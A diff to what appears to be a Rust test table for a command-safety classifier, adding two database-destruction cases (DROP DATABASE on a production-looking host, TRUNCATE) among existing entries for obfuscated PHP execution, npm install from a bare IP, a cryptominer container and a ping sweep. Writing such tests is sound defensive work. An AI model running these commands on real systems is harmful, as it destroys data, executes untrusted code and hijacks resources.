@@ -67,6 +67,8 @@ fn what_is_run_in_other_places() {
         ("php -r \"system(strrev('sl'));\"", Block, "decode-run"),
         ("npm install http://192.0.2.7/a.tgz", Review, "download-run"),
         ("echo 'DROP TABLE users;' | psql app", Review, "database-loss"),
+        ("psql -h db.prod.example.net -c 'DROP DATABASE shop'", Block, "database-loss"),
+        ("psql -c 'TRUNCATE products' test", Review, "database-loss"),
         ("docker run -d minerlab/xmrig -o pool.example.net:80", Block, "mine"),
         ("for i in $(seq 254); do ping -c1 10.0.4.$i; done", Review, "recon"),
         ("docker compose exec -T db psql -c 'select 1'", Allow, ""),
